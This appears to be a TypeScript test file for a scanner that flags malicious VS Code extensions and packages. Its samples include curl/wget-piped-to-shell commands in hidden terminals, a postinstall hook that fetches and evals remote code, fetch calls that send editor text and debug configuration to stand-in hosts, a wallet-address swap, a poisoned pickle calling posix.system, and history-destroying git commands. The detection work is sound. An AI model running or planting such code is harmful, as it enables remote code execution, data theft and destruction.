import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { dangerIn } from '../../commands.js';
import { rule as dataLeak } from '../../data-leak.rule.js';
import { rule as remoteCode } from '../../remote-code.rule.js';
import { rule as swapped } from '../../swapped-address.rule.js';
import { rule as weakened } from '../../weakened-editor.rule.js';

const VSCODE = 'const vscode = require("vscode"); exports.activate = async (context) => { ';
const worst = (rule: typeof dataLeak, body: string): string => findingsOf(rule, { 'index.js': `${VSCODE}${body} };` }, { dialect: 'vscode', entry_points: ['index.js'] })[0]?.severity ?? 'nothing';

test('tasks and terminals of an editor that run what no user would start so', () => {
  for (const body of [
    'const t = new vscode.Task({ type: "shell" }, 1, "a", "b", new vscode.ShellExecution("curl -fsSL https://cdn.example/i | sh")); vscode.tasks.executeTask(t);',
    'const words = ["-c", "curl -s https://cdn.example/i | sh"]; new vscode.ProcessExecution("bash", words);',
    'vscode.window.createTerminal({ name: "x", hideFromUser: true, shellPath: "bash", shellArgs: ["-c", "wget -qO- https://cdn.example/i | bash"] });',
  ]) assert.equal(worst(remoteCode, body), 'high', body);
  for (const body of ['new vscode.ShellExecution("npm run build");', 'new vscode.ShellExecution(`make ${target}`);', 'vscode.window.createTerminal({ name: "x", shellPath: settings.shell });']) assert.equal(worst(remoteCode, body), 'nothing', body);
});

test('a repository that is pushed elsewhere', () => {
  const push = (address: string) => `api.onDidOpenRepository(async (r) => { await r.addRemote("cache", ${address}); await r.push("cache", undefined, true); });`;
  assert.equal(worst(dataLeak, push('"https://git.mirror.example/" + Date.now() + ".git"')), 'high');
  for (const address of ['address', '"https://github.com/acme/a.git"', '`${settings.base}/a.git`']) assert.equal(worst(dataLeak, push(address)), 'nothing', address);
  assert.equal(worst(dataLeak, 'await r.addRemote("up", "https://git.mirror.example/a.git"); list.push("up");'), 'nothing');
});

test('a script from a server in what stands in an editor, and terminals with a program of their own', () => {
  const format = (by: string) => `vscode.languages.registerDocumentFormattingEditProvider("html", { provideDocumentFormattingEdits(doc) { const t = doc.getText().replace("</body>", ${by}); return [vscode.TextEdit.replace(all, t)] } });`;
  assert.equal(worst(remoteCode, format('"<script async src=\\"https://w.example/w.js\\"></script></body>"')), 'high');
  for (const by of ['"\\n</body>"', '"<script src=\\"./main.js\\"></script></body>"', '`<script src="${settings.script}"></script></body>`']) assert.equal(worst(remoteCode, format(by)), 'nothing', by);
  const set = (name: string, value: string) => `vscode.workspace.getConfiguration("terminal.integrated").update("${name}", ${value}, 1);`;
  assert.equal(worst(weakened, set('profiles.linux', '{ bash: { path: context.asAbsolutePath("sh") } }')), 'high');
  for (const name of ['fontSize', 'cursorStyle']) assert.equal(worst(weakened, set(name, '14')), 'nothing', name);
});

test('what Git could bring back', () => {
  assert.equal(dangerIn('git clean -fdx && git reflog expire --expire=now --all && git gc --prune=now')?.severity, 'high');
  for (const command of ['git reflog', 'git clean -fdx', 'git gc --prune=2.weeks.ago']) assert.equal(dangerIn(command), null, command);
});

test('what is in an editor or a debugger goes to a server, and an account comes in its place', () => {
  assert.equal(worst(dataLeak, 'vscode.window.onDidChangeActiveTextEditor((e) => fetch("https://sync.example/t", { method: "POST", body: e.document.getText() }));'), 'high');
  assert.equal(worst(dataLeak, 'vscode.debug.onDidStartDebugSession((s) => fetch("https://dbg.example/s", { method: "POST", body: JSON.stringify(s.configuration) }));'), 'high');
  for (const body of ['vscode.debug.onDidStartDebugSession((s) => fetch("https://dbg.example/s", { method: "POST", body: s.type }));', 'vscode.window.onDidChangeActiveTextEditor((e) => fetch("https://sync.example/t", { method: "POST", body: e.document.languageId }));']) assert.equal(worst(dataLeak, body), 'nothing', body);
  const save = (put: string) => `vscode.workspace.onDidSaveTextDocument(async (d) => { const m = /(TREASURY)=(0x[0-9a-fA-F]{40})/.exec(d.getText()); const e = new vscode.WorkspaceEdit(); e.replace(d.uri, range, ${put}); await vscode.workspace.applyEdit(e); });`;
  assert.equal(worst(swapped, save('m[1] + "=0x71C7656EC7ab88b098defB751B7401B5f6d8976F"')), 'high');
  assert.equal(worst(swapped, save('m[1] + "=" + m[2].toLowerCase()')), 'nothing');
});

test('settings of an editor in the rows of a table, and scripts of npm that are written into manifests', () => {
  const rows = (row: string) => `for (const [section, key, value] of [["editor", "wordWrap", "on"], ${row}]) await vscode.workspace.getConfiguration(section).update(key, value, true);`;
  for (const row of ['["http", "proxy", "http://192.0.2.61:3128"]', '["http", "proxyStrictSSL", false]']) assert.equal(worst(weakened, rows(row)), 'high', row);
  assert.equal(worst(weakened, rows('["http", "proxySupport", "override"]')), 'nothing');
  const hook = (command: string) => `pkg.scripts.postinstall = ${command}; await write(JSON.stringify(pkg));`;
  assert.equal(worst(remoteCode, hook('"node -e \\"fetch(\'https://p.example/p.js\').then(r=>r.text()).then(eval)\\""')), 'high');
  for (const command of ['"husky install"', '"node scripts/build.js"', 'answer.command']) assert.equal(worst(remoteCode, hook(command)), 'nothing', command);
});

test('data that runs something when Python reads it', () => {
  const read = 'import pickle\nwith open("weights.p0", "rb") as f:\n    model = pickle.load(f)\n';
  const said = (data: string, code = read) => findingsOf(remoteCode, { 'model.py': code, 'weights.p0': Buffer.from(data, 'latin1') }).map(({ severity, file }) => `${severity} ${file}`);
  assert.deepEqual(said("cposix\nsystem\n(S'id'\ntR."), ['high weights.p0']);
  assert.deepEqual(said(String.fromCharCode(0x8c, 5) + 'posix' + String.fromCharCode(0x94, 0x8c, 6) + 'system'), ['high weights.p0']);
  assert.deepEqual(said('cnumpy\ndtype\n(S\'f8\'\ntR.'), []);
  assert.deepEqual(said("cposix\nsystem\n(S'id'\ntR.", 'print(open("weights.p0").read())'), []);
});
